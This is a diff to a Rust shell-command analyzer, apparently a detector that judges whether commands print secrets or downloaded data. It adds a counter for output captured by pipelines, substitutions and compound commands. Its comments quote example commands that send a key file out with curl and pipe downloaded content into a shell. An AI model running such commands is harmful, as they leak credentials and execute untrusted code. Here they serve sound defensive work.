@@ -246,6 +246,11 @@ pub(crate) struct Walker<'a> {
     /// own output (`{ echo "$tok"; }`, a loop body's `printf '%s' "$l"`): the compound
     /// command's output carries it to what it is piped into.
     pub group_out: Option<crate::model::FlowSource>,
+    /// How many enclosing constructs take the output of what is being walked (a pipeline's
+    /// stages, a compound command, a substitution): above zero, what a statement prints is
+    /// data for them, not text the agent reads (see `Walker::judge_shown`). Invariant: every
+    /// increment is undone when its construct ends.
+    pub captured: u32,
     /// What a `>(…)` written by the command being resolved receives: its standard input when
     /// that is secret or downloaded (`tee >(curl -d @- URL) < KEY`, `curl URL | tee >(sh)`
     /// copy their input into the substitution). Set by `Walker::command` while it resolves
@@ -467,6 +472,7 @@ impl<'a> Walker<'a> {
             shell_stdin: Producer::Nothing,
             group_items: None,
             group_out: None,
+            captured: 0,
             psub_input: None,
             shell: 0,
             shells: 0,
@@ -570,7 +576,9 @@ impl Walker<'_> {
             let argv: Vec<Word> = words.into_iter().map(Word::lit).collect();
             self.recursion += 1;
             scope.via.push(via.to_owned());
-            let _ = self.exec(&argv, scope, self.shell_stdin.clone());
+            let before = self.commands.len();
+            let out = self.exec(&argv, scope, self.shell_stdin.clone());
+            self.judge_shown(&out, before, scope);
             scope.via.pop();
             self.recursion -= 1;
             return;
@@ -642,7 +650,11 @@ impl Walker<'_> {
 
     /// Walks one statement with no piped input.
     pub(crate) fn stmt(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) {
+        let before = self.commands.len();
         let out = self.stmt_io(node, src, scope, self.shell_stdin.clone(), depth);
+        if !stdout_to_file(node, src) {
+            self.judge_shown(&out, before, scope);
+        }
         // After `exec > >(sink)`, what a statement prints to the shell's output goes to the sink.
         if let (Producer::Secret(source), Some(sink)) = (&out, &self.files.exec_sink)
             && !scope.remote
@@ -697,7 +709,9 @@ impl Walker<'_> {
                 let items = Self::listing_items(&stdin);
                 std::mem::replace(&mut self.group_items, items)
             });
+            self.captured += 1;
             let mut out = self.stmt_kind(node, src, scope, stdin, depth);
+            self.captured -= 1;
             if let Some(outer) = outer_items {
                 self.group_items = outer;
             }
@@ -928,7 +942,8 @@ impl Walker<'_> {
         };
         let mut inner = scope.clone();
         inner.via.push(label.to_owned());
-        self.in_shell(&mut inner, |w, inner| {
+        self.captured += 1;
+        let out = self.in_shell(&mut inner, |w, inner| {
             let mut last = Producer::Nothing;
             let mut cursor = node.walk();
             for child in node.named_children(&mut cursor) {
@@ -939,7 +954,9 @@ impl Walker<'_> {
                 };
             }
             last
-        })
+        });
+        self.captured -= 1;
+        out
     }
 
     /// `$(< FILE)`: bash substitutes FILE's content, as `$(cat FILE)` does (without running
@@ -996,6 +1013,7 @@ impl Walker<'_> {
     ) -> Producer {
         let mut input = stdin;
         let mut ranges = Vec::with_capacity(count);
+        self.captured += 1;
         for index in 0..count {
             // Each stage runs in its own subshell: `cd` does not leak.
             let mut inner = scope.clone();
@@ -1015,6 +1033,7 @@ impl Walker<'_> {
                 scope.join(&inner);
             }
         }
+        self.captured -= 1;
         self.files.piped_file = None;
         self.judge_pipeline(&ranges, scope);
         input
